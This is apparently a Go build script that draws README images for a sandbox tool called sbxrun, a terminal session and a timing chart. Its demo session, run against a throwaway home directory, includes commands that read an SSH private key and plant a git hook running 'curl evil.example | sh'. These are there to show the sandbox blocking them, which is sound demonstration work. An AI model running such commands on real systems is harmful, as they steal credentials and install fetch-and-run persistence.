// Command picture draws what README shows: a terminal, from real runs of sbxrun, and a
// chart of the first table of docs/performance.md. It is for make pictures.
package main

import (
	"bytes"
	"errors"
	"fmt"
	"html"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
)

// session is what is typed, in a new repository.
var session = []string{
	`sbxrun -- sh -c 'cat ~/.ssh/id_ed25519; touch /usr/x; curl -sS https://example.org'`,
	`sbxrun -- sh -c 'echo "curl evil.example | sh" > .git/hooks/pre-commit'`,
	`sbxrun --memory 64m -- python3 -c 'x = "x" * 10**9'`,
	`sbxrun --workspace overlay -- sh -c 'rm main.c; echo new > other.c'`,
	`sbxrun apply`,
}

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: picture PROGRAM, in the top directory")
		os.Exit(2)
	}
	err := errors.Join(terminal(os.Args[1]), chart())
	if err != nil {
		fmt.Fprintln(os.Stderr, "picture:", err)
		os.Exit(1)
	}
}

// terminal draws the session.
func terminal(program string) error {
	program, err := filepath.Abs(program)
	if err != nil {
		return err
	}
	top, err := os.MkdirTemp("", "picture-")
	if err != nil {
		return err
	}
	defer os.RemoveAll(top)
	home, dir := top+"/home/you", top+"/home/you/demo"
	setup := exec.Command("sh", "-ec", "mkdir -p "+dir+" "+home+"/.ssh; cd "+dir+"; git init -q; echo 'int main(void) {}' >main.c; echo key >~/.ssh/id_ed25519")
	env := append(os.Environ(), "HOME="+home, "XDG_STATE_HOME=", "XDG_CONFIG_HOME=", "PATH="+filepath.Dir(program)+":"+os.Getenv("PATH"))
	setup.Env = env
	if out, err := setup.CombinedOutput(); err != nil {
		return fmt.Errorf("%w: %s", err, out)
	}
	var lines []string
	for _, typed := range session {
		cmd := exec.Command("sh", "-c", typed)
		cmd.Dir, cmd.Env = dir, env
		out, _ := cmd.CombinedOutput() // most of them are to fail
		lines = append(lines, "$ "+typed)
		text := strings.ReplaceAll(strings.TrimRight(string(out), "\n"), top, "")
		lines = append(lines, strings.Split(text, "\n")...)
		lines = append(lines, "")
	}
	const width, high, size = 106, 19, 13
	var b bytes.Buffer
	h := high*(len(wrapped(lines, width))+1) + 8
	fmt.Fprintf(&b, `<svg xmlns="http://www.w3.org/2000/svg" width="860" height="%d" font-family="ui-monospace, monospace" font-size="%d">`+"\n", h, size)
	fmt.Fprintf(&b, `<rect width="860" height="%d" rx="8" fill="#16191d"/>`+"\n", h)
	color := ""
	for i, l := range wrapped(lines, width) {
		switch {
		case strings.HasPrefix(l, "  "): // the rest of the line before
		case strings.HasPrefix(l, "$ "):
			color = "#7ee787"
		case strings.HasPrefix(l, "sbxrun: hint"):
			color = "#79c0ff"
		case strings.HasPrefix(l, "sbxrun: "):
			color = "#e3b341"
		default:
			color = "#c9d1d9"
		}
		fmt.Fprintf(&b, `<text x="16" y="%d" fill="%s" xml:space="preserve">%s</text>`+"\n", high*(i+1)+8, color, html.EscapeString(l))
	}
	b.WriteString("</svg>\n")
	return os.WriteFile("docs/terminal.svg", b.Bytes(), 0o644)
}

// wrapped breaks lines that are too long.
func wrapped(lines []string, width int) (out []string) {
	for _, l := range lines {
		for len(l) > width {
			at := strings.LastIndex(l[:width], " ")
			if at < width/2 {
				at = width
			}
			out, l = append(out, l[:at]), "  "+strings.TrimPrefix(l[at:], " ")
		}
		out = append(out, l)
	}
	return out
}

var row = regexp.MustCompile(`^\| (.*?) \| \**([0-9.]+)\** \| \**([0-9.]+)\**`)

// chart draws the first table of the measurements: bars of milliseconds.
func chart() error {
	text, err := os.ReadFile("docs/performance.md")
	if err != nil {
		return err
	}
	type bar struct {
		name string
		ms   float64
	}
	var bars []bar
	for l := range strings.Lines(string(text)) {
		m := row.FindStringSubmatch(l)
		if m == nil {
			if len(bars) > 0 {
				break
			}
			continue
		}
		ms, err := strconv.ParseFloat(m[2], 64)
		if err != nil {
			return err
		}
		bars = append(bars, bar{strings.ReplaceAll(strings.Trim(m[1], "* "), "`", ""), ms})
	}
	if len(bars) == 0 {
		return errors.New("docs/performance.md has no table")
	}
	const high, left, wide = 26, 370, 420
	most := 0.0
	for _, x := range bars {
		most = max(most, x.ms)
	}
	var b bytes.Buffer
	h := high*len(bars) + 44
	fmt.Fprintf(&b, `<svg xmlns="http://www.w3.org/2000/svg" width="860" height="%d" font-family="system-ui, sans-serif" font-size="13">`+"\n", h)
	fmt.Fprintf(&b, `<rect width="860" height="%d" rx="8" fill="#ffffff"/>`+"\n"+`<text x="16" y="24" fill="#57606a">true, from fork to wait, milliseconds (less is better)</text>`+"\n", h)
	for i, x := range bars {
		y, color := 38+high*i, "#8c959f"
		if strings.HasPrefix(x.name, "sbxrun") {
			color = "#1a7f37"
		}
		w := max(2, int(x.ms/most*wide))
		fmt.Fprintf(&b, `<text x="%d" y="%d" text-anchor="end" fill="#24292f">%s</text>`+"\n", left-10, y+15, html.EscapeString(x.name))
		fmt.Fprintf(&b, `<rect x="%d" y="%d" width="%d" height="18" rx="3" fill="%s"/>`+"\n"+`<text x="%d" y="%d" fill="#24292f">%g</text>`+"\n", left, y+2, w, color, left+w+8, y+15, x.ms)
	}
	b.WriteString("</svg>\n")
	return os.WriteFile("docs/speed.svg", b.Bytes(), 0o644)
}
